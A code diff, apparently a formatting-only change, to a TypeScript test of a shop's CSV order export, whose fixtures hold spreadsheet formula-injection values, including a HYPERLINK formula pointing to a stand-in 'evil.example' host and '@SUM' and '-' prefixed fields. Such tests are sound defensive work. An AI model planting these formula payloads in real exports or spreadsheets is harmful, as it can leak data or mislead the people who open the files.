@@ -6,8 +6,7 @@ import { createAccount, createAdmin, createCustomer } from "../support/identitie
 import { createOrder } from "../support/orders";
 
 const exportUrl = (query = "") => `${FUNCTION_BASE}/export/orders.csv${query}`;
-const get = (query: string, authorization?: string) =>
-  fetch(exportUrl(query), { headers: authorization ? { authorization } : {} });
+const get = (query: string, authorization?: string) => fetch(exportUrl(query), { headers: authorization ? { authorization } : {} });
 
 const FORMULA_NAME = '=HYPERLINK("https://evil.example/?x","Voir")';
 
@@ -37,7 +36,16 @@ beforeAll(async () => {
   }
   // Written by the storefront straight into Firestore, as a customer typed it.
   const mallory = await createAccount("mallory@exemple.fr", { firstName: FORMULA_NAME, lastName: "-Dupont", isAdmin: false });
-  writes.push(createOrder("evil01", { status: "cancelled", total: 12.5, createdAt: Timestamp.fromMillis(Date.UTC(2025, 0, 1)), userId: mallory.uid, deliveryPrice: null, trackingNumber: "@SUM(1+1)" }));
+  writes.push(
+    createOrder("evil01", {
+      status: "cancelled",
+      total: 12.5,
+      createdAt: Timestamp.fromMillis(Date.UTC(2025, 0, 1)),
+      userId: mallory.uid,
+      deliveryPrice: null,
+      trackingNumber: "@SUM(1+1)",
+    }),
+  );
   await Promise.all(writes);
 }, 120_000);
 
@@ -53,7 +61,9 @@ describe("export CSV des commandes", () => {
     const [header, ...rows] = parseCsv(text.slice(1));
     expect(header).toEqual(HEADER);
 
-    const expected = Array.from({ length: 620 }, (_, i) => i).filter((i) => i % 3 === 0).reverse();
+    const expected = Array.from({ length: 620 }, (_, i) => i)
+      .filter((i) => i % 3 === 0)
+      .reverse();
     expect(rows).toHaveLength(expected.length);
     expect(rows.map((r) => r[1])).toEqual(expected.map((i) => `ord${String(i).padStart(4, "0")}`));
     const first = expected[0]!;
